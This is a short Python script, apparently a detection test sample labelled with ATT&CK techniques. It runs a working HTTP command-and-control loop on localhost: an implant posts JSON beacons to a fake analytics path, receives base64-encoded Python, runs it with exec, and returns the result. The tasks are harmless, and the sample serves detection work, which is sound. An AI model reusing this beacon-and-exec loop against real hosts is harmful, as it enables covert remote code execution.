# technique: T1071.001 T1132.001 T1059.006
"""HTTP C2 whose tasks are Python: JSON beacons over http.client POST, base64 code exec'd in the implant (T1071.001, T1132.001, T1059.006).

The implant POSTs a JSON check-in to a path that looks like an analytics
endpoint; the JSON answer holds a base64 field "cfg" that is Python
source, run with exec in a fresh namespace, and the value it leaves in
"result" is posted back. No shell: the tasking language is Python itself.

A good detector raises a high alert: code received over HTTP is decoded
and executed (repeatedly, in a beacon loop).
"""
import base64
import http.client
import http.server
import json
import threading

tasks = ["import os\nresult = os.getcwd()", "import platform\nresult = platform.node()"]
received = []


class Analytics(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        beacon = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if "result" in beacon:
            received.append(beacon["result"])
        answer = {"ok": True}
        if tasks:
            answer["cfg"] = base64.b64encode(tasks.pop(0).encode()).decode()
        body = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Analytics)
threading.Thread(target=server.serve_forever, daemon=True).start()
connection = http.client.HTTPConnection("127.0.0.1", server.server_address[1], timeout=5)
beacon = {"id": "a81f", "v": "2.4.1"}
for _ in range(5):
    connection.request("POST", "/v1/collect", body=json.dumps(beacon), headers={"Content-Type": "application/json"})
    answer = json.loads(connection.getresponse().read())
    if "cfg" not in answer:
        break
    namespace = {}
    exec(base64.b64decode(answer["cfg"]).decode(), namespace)
    beacon = {"id": "a81f", "result": str(namespace.get("result"))}
connection.close()
server.shutdown()
print("controller got", received)
